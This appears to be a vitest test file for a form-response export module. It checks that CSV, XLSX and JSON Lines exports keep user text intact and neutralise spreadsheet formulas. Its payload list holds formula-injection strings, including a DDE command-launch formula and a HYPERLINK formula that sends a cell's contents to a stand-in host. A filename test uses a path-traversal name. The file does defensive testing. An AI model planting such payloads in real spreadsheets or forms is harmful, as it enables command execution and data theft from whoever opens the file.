/** Exported files as other libraries read them: what people wrote comes back, and no spreadsheet runs it. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import type { Answers } from '@/domain/values/answer';
import { withoutFormula } from '@/domain/export/csv';
import { attachment, exportFileName } from '@/domain/export/fileName';
import type { ExportedResponse } from '@/domain/export/rows';
import { columnName, SHEET_LIMITS } from '@/domain/export/sheet';
import { aFile, aPlan } from '../../../support/exports';
import { EVERY_ANSWER, everyType } from '../../../support/everyType';
import { aField, aForm } from '../../../support/forms';

const AT = Date.parse('2026-07-01T12:00:05Z');

function aResponse(answers: Answers, over: Partial<ExportedResponse> = {}): ExportedResponse {
  return {
    id: 'r1',
    formId: 'f1',
    version: 1,
    answers,
    status: 'complete',
    submittedAt: AT,
    ...over,
  };
}

const csvOf = (bytes: Buffer, bom = true): string[][] =>
  parse(bytes, { bom, relax_column_count: false });

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1\nb',
  'a\r\n@x',
  '"=1+1"',
  '";=1+1;"',
  '=HYPERLINK("http://x.example?"&A1,"click")',
  'plain, text',
  '"quoted"',
  "'=already",
  'ends with \\',
  '\u0000nul',
  '\u0007bell',
  '\ufffe\uffff',
  '\ud800half',
  ']]>',
  '<t>&amp;</t>',
  '_x0041_',
  '_x005F_x0041_',
  'Ünïcödé 日本語 🙂',
  '\u202eevil',
  '-5',
  '+44 20 7946 0123',
  '1e5',
  '00012',
  '   ',
  '- a list\n- of things',
];
const WRAPS = [
  (text: string) => text,
  (text: string) => `${text}${text}`,
  (text: string) => `x${text}`,
  (text: string) => `${text}\n${text}`,
  (text: string) => `,${text}`,
  (text: string) => `;${text}`,
  (text: string) => `"${text}`,
  (text: string) => `${text}"`,
  (text: string) => ` ${text} `,
  (text: string) => `\u200b${text}`,
  (text: string) => `\ufeff${text}`,
  (text: string) => `x;\t${text}`,
  (text: string) => `'${text}`,
  (text: string) => `${text};=1`,
];
/** More than five hundred. */
const HOSTILE = WRAPS.flatMap((wrap) => PAYLOADS.map(wrap));

/** Whether some spreadsheet would begin a formula: at the start, or after what it may take for a separator. */
const runs = (text: string) =>
  !/^[+-]?\d+(?:[.,]\d+)*$/.test(text) &&
  /(^|[;\t\r\n])[\s"\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠]/.test(text);

/** What XML and Excel can hold of a text. */
const inExcel = (text: string) =>
  text
    .replace(/\r\n?/g, '\n')
    // oxlint-disable-next-line no-control-regex -- what XML 1.0 does not have
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\ud800-\udfff]/gu, '');

describe('hostile cells and headers', () => {
  // Each text is the label of a question, and the answer to it.
  const fields = HOSTILE.map((label, index) =>
    aField('short_text', `f${index}`, { label, key: `k${index}`, required: false }),
  );
  const form = aForm([fields]);
  const answers: Answers = Object.fromEntries(
    HOSTILE.map((v, index) => [`f${index}`, { t: 'text', v }]),
  );
  const response = aResponse(answers, { source: '=source', tags: ['t1'], locale: '@x' });
  const fixed = 10;

  it('are more than five hundred', () => {
    expect(HOSTILE.length).toBeGreaterThan(500);
  });

  it('come back from a raw CSV as they were', async () => {
    const { bytes } = await aFile(aPlan([form], { raw: true }), [response]);
    const [header = [], row = [], ...more] = csvOf(bytes);
    expect(more).toEqual([]);
    expect([header.length, row.length]).toEqual([fixed + HOSTILE.length, fixed + HOSTILE.length]);
    expect(row.slice(fixed)).toEqual(HOSTILE.map((text) => Buffer.from(text).toString()));
    expect(new Set(header.map((name) => name.toLowerCase())).size).toBe(header.length);
  });

  it('run in no spreadsheet from a CSV, and lose nothing but an apostrophe', async () => {
    const { bytes } = await aFile(aPlan([form]), [response]);
    const [header = [], row = []] = csvOf(bytes);
    expect([...header, ...row].filter(runs)).toEqual([]);
    row.slice(fixed).forEach((cell, index) => {
      const text = Buffer.from(HOSTILE[index] ?? '').toString();
      expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    });
  });

  it('come back from a workbook as XML can hold them', async () => {
    const { bytes, notes } = await aFile(aPlan([form], { format: 'xlsx' }), [response]);
    const [header = [], row = [], ...more] = await readSheet(bytes, { trim: false });
    expect([more, notes]).toEqual([[], { cut: 0, unplaced: 0 }]);
    const read = row.slice(fixed).map((cell) => cell ?? '');
    const shown = (text: string) => (text.trim() === '' ? '' : text);
    expect(read.map((cell) => shown(String(cell)))).toEqual(
      HOSTILE.map((text) => shown(inExcel(text))),
    );
    expect(header.length).toBe(fixed + HOSTILE.length);
  });

  it('come back from JSON Lines as they were', async () => {
    const { bytes } = await aFile(aPlan([form], { format: 'jsonl' }), [response, response]);
    const lines = bytes.toString().split('\n');
    expect([lines.length, lines[2]]).toEqual([3, '']);
    const read = JSON.parse(lines[0] ?? '') as { answers: Record<string, { value: string }> };
    expect(HOSTILE.map((_text, index) => read.answers[`k${index}`]?.value)).toEqual(HOSTILE);
  });

  it('of any text are guarded, and guarding twice changes nothing more', () => {
    const text = fc.string({
      unit: fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        ';',
        '\t',
        '\n',
        '\r',
        '"',
        "'",
        ' ',
        'a',
        '1',
        ',',
      ),
      maxLength: 12,
    });
    fc.assert(
      fc.property(text, (written) => {
        const guarded = withoutFormula(written);
        return !runs(guarded) && withoutFormula(guarded) === guarded;
      }),
    );
  });
});

describe('a file', () => {
  it('has the same bytes however it is cut into pieces, but for how a workbook is packed', async () => {
    const responses = Array.from({ length: 20 }, (_, index) =>
      aResponse(EVERY_ANSWER, { id: `r${index}` }),
    );
    for (const format of ['csv', 'jsonl'] as const) {
      const plan = aPlan([everyType()], { format });
      const [one, other] = [await aFile(plan, responses, 3), await aFile(plan, responses, 20)];
      expect(one.bytes.equals(other.bytes)).toBe(true);
    }
    const plan = aPlan([everyType()], { format: 'xlsx' });
    const [one, other] = [await aFile(plan, responses, 3), await aFile(plan, responses, 20)];
    expect(await readSheet(one.bytes)).toEqual(await readSheet(other.bytes));
  });

  it('of no responses has its header', async () => {
    for (const format of ['csv', 'xlsx', 'jsonl'] as const) {
      const { bytes } = await aFile(aPlan([everyType()], { format }), []);
      if (format === 'jsonl') expect(bytes.length).toBe(0);
      else {
        const rows = format === 'csv' ? csvOf(bytes) : await readSheet(bytes);
        expect(rows.length).toBe(1);
      }
    }
  });

  it('is CSV by RFC 4180, in UTF-8 with its mark', async () => {
    const { bytes } = await aFile(aPlan([everyType()]), [aResponse(EVERY_ANSWER)]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString().endsWith('\r\n')).toBe(true);
    expect(bytes.toString().slice(1).split('\r\n').length).toBe(3);
  });

  it('has numbers, days, times and moments as such in a workbook', async () => {
    const plan = aPlan([everyType()], { format: 'xlsx' });
    const old = { ...EVERY_ANSWER, fday: { t: 'date', v: '1899-12-31' } } as Answers;
    const rows = await readSheet(
      (await aFile(plan, [aResponse(EVERY_ANSWER), aResponse(old)])).bytes,
    );
    const cell = (header: string, at = 1) => {
      const value = rows[at]?.[rows[0]?.indexOf(header) ?? -1];
      // The reader cuts fractions of a millisecond off, which binary fractions of a day have.
      return value instanceof Date ? new Date(Math.round(value.getTime() / 1_000) * 1_000) : value;
    };
    expect(cell('Submitted (Europe/London)')).toEqual(new Date('2026-07-01T13:00:05Z'));
    expect(cell('Day')).toEqual(new Date('2026-11-20T00:00:00Z'));
    expect(cell('Moment')).toEqual(new Date('2026-12-24T18:30:00Z'));
    expect(cell('Total')).toBe(38.5);
    // Excel has no days before 1900.
    expect(cell('Day', 2)).toBe('1899-12-31');
  });

  it('cuts what a cell of a workbook cannot hold, never within a character, and says so', async () => {
    const long = `${'x'.repeat(SHEET_LIMITS.cell - 1)}🙂🙂`;
    const form = aForm([[aField('long_text', 'ft', { label: 'Text', required: false })]]);
    const { bytes, notes } = await aFile(aPlan([form], { format: 'xlsx' }), [
      aResponse({ ft: { t: 'text', v: long } }),
    ]);
    expect((await readSheet(bytes))[1]?.at(-1)).toBe('x'.repeat(SHEET_LIMITS.cell - 1));
    expect(notes.cut).toBe(1);
  });

  it('has a name that any system takes, and a header that names it in ASCII and whole', () => {
    expect(exportFileName('Contact form', '2026-11-23', 'csv')).toBe(
      'Contact form responses 2026-11-23.csv',
    );
    expect(exportFileName('../a/b:c*?"<>|\u202e', '2026-11-23', 'xlsx')).toBe(
      'a b c responses 2026-11-23.xlsx',
    );
    expect(exportFileName('', '2026-11-23', 'jsonl')).toBe('Responses 2026-11-23.jsonl');
    expect(attachment('Café "ü" 日本 responses.csv')).toBe(
      'attachment; filename="Cafe u  responses.csv"; filename*=UTF-8\'\'Caf%C3%A9%20%22%C3%BC%22%20%E6%97%A5%E6%9C%AC%20responses.csv',
    );
    expect(attachment('日本.csv')).toContain('filename="export.csv"');
  });

  it('names its columns as Excel does', () => {
    expect([0, 25, 26, 701, 702, 16_383].map(columnName)).toEqual([
      'A',
      'Z',
      'AA',
      'ZZ',
      'AAA',
      'XFD',
    ]);
  });
});
